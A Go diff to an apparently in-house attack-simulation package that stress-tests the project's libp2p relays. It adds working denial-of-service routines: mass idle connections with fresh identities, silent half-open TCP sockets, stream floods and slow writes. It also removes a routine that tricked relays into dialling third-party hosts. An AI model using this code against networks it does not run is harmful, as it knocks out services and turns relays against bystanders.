@@ -2,48 +2,89 @@ package attack
 
 import (
 	"context"
+	"crypto/rand"
+	"io"
 	"net"
-	"sync"
 	"time"
 
-	"github.com/libp2p/go-libp2p"
+	"github.com/libp2p/go-libp2p/core/crypto"
 	"github.com/libp2p/go-libp2p/core/network"
 	"github.com/libp2p/go-libp2p/core/peer"
-	"github.com/multiformats/go-multiaddr"
+	"github.com/libp2p/go-libp2p/core/sec"
+	"github.com/libp2p/go-libp2p/p2p/muxer/yamux"
+	"github.com/libp2p/go-libp2p/p2p/net/upgrader"
+	"github.com/libp2p/go-libp2p/p2p/security/noise"
+	manet "github.com/multiformats/go-multiaddr/net"
 
 	"starling/p2p/wire"
 )
 
-// idle takes places at every relay: connections that stay and do nothing, each
-// of a new identity, ten a second.
+// idle takes the places at every relay: connections that stay and do nothing, each
+// of a new identity, a hundred a second. What is closed it opens again. The keeper of
+// a connection is less than a host, so that one machine holds thousands.
 func idle(ctx context.Context, m *machine) error {
-	return m.crowd(ctx, 10, func(i int) {
-		h, err := m.host()
-		if err != nil {
+	return m.crowd(ctx, 100, func(i int) {
+		var c network.MuxedConn
+		within(ctx, func(ctx context.Context) { c, _ = m.guest(ctx, m.relays[i%len(m.relays)]) })
+		if c == nil {
 			return
 		}
-		within(ctx, func(ctx context.Context) { h.Connect(ctx, m.relays[i%len(m.relays)]) })
+
+		m.done.add()
+		defer m.done.lost()
+		defer c.Close()
+		defer context.AfterFunc(ctx, func() { c.Close() })()
+		for {
+			s, err := c.AcceptStream()
+			if err != nil {
+				return // the relay has closed it
+			}
+			s.Reset() // it asks who we are
+		}
 	})
+}
+
+// guest connects with a new identity as libp2p does, without a host.
+func (m *machine) guest(ctx context.Context, relay peer.AddrInfo) (network.MuxedConn, error) {
+	key, _, err := crypto.GenerateEd25519Key(rand.Reader)
+	if err != nil {
+		return nil, err
+	}
+	muxers := []upgrader.StreamMuxer{{ID: yamux.ID, Muxer: yamux.DefaultTransport}}
+	secure, err := noise.New(noise.ID, key, muxers)
+	if err != nil {
+		return nil, err
+	}
+	up, err := upgrader.New([]sec.SecureTransport{secure}, muxers, nil, nil, nil)
+	if err != nil {
+		return nil, err
+	}
+
+	raw, err := m.dial(ctx, relay.Addrs[0])
+	if err != nil {
+		return nil, err
+	}
+	c, err := manet.WrapNetConn(raw)
+	if err != nil {
+		raw.Close()
+		return nil, err
+	}
+	return up.Upgrade(ctx, nil, c, network.DirOutbound, relay.ID, &network.NullScope{})
 }
 
 // halfOpen opens TCP connections, a hundred a second, and says nothing on them.
 func halfOpen(ctx context.Context, m *machine) error {
-	var mu sync.Mutex
-	var open []net.Conn
-	defer func() {
-		for _, c := range open {
-			c.Close()
-		}
-	}()
 	return m.crowd(ctx, 100, func(i int) {
 		relay := m.relays[i%len(m.relays)]
-		within(ctx, func(ctx context.Context) {
-			if c, err := m.dial(ctx, relay.Addrs[0]); err == nil {
-				mu.Lock()
-				open = append(open, c)
-				mu.Unlock()
-			}
-		})
+		var c net.Conn
+		within(ctx, func(ctx context.Context) { c, _ = m.dial(ctx, relay.Addrs[0]) })
+		if c == nil {
+			return
+		}
+		m.done.add()
+		defer c.Close()
+		defer context.AfterFunc(ctx, func() { c.Close() })()
+		io.Copy(io.Discard, c) // until the relay closes it
 	})
 }
 
@@ -55,13 +96,17 @@ func streams(ctx context.Context, m *machine) error {
 		if err != nil {
 			return err
 		}
-		return m.paced(ctx, 300, func(int) {
+		return m.crowd(ctx, 300, func(int) {
 			within(ctx, func(ctx context.Context) {
 				if h.Connect(ctx, relay) != nil {
 					return
 				}
-				if s, err := h.NewStream(ctx, relay.ID, wire.FrameProtocol); err == nil {
-					s.Write([]byte{0})
+				s, err := h.NewStream(ctx, relay.ID, wire.FrameProtocol)
+				if err != nil {
+					return
+				}
+				if _, err := s.Write([]byte{0}); err == nil {
+					m.done.add()
 				}
 			})
 		})
@@ -90,30 +135,10 @@ func slow(ctx context.Context, m *machine) error {
 				if _, err := (*s).Write([]byte{byte(wire.TypePacket)}); err != nil {
 					(*s).Reset()
 					*s = nil
+					return
 				}
+				m.done.add()
 			})
-		})
-	})
-}
-
-// pointer tells every relay by identify that it listens at the addresses of third
-// parties, and waits to be dialled there.
-func pointer(ctx context.Context, m *machine) error {
-	victims := []multiaddr.Multiaddr{
-		multiaddr.StringCast("/ip4/9.9.9.9/tcp/80"),
-		multiaddr.StringCast("/ip4/8.8.8.8/tcp/22"),
-		multiaddr.StringCast("/ip4/127.0.0.1/tcp/5432"),
-	}
-	h, err := m.host(libp2p.AddrsFactory(func([]multiaddr.Multiaddr) []multiaddr.Multiaddr { return victims }))
-	if err != nil {
-		return err
-	}
-	return m.paced(ctx, 1, func(i int) {
-		relay := m.relays[i%len(m.relays)]
-		within(ctx, func(ctx context.Context) {
-			if h.Connect(ctx, relay) == nil && i >= len(m.relays) {
-				h.Network().ClosePeer(relay.ID) // and now they may look for us
-			}
 		})
 	})
 }
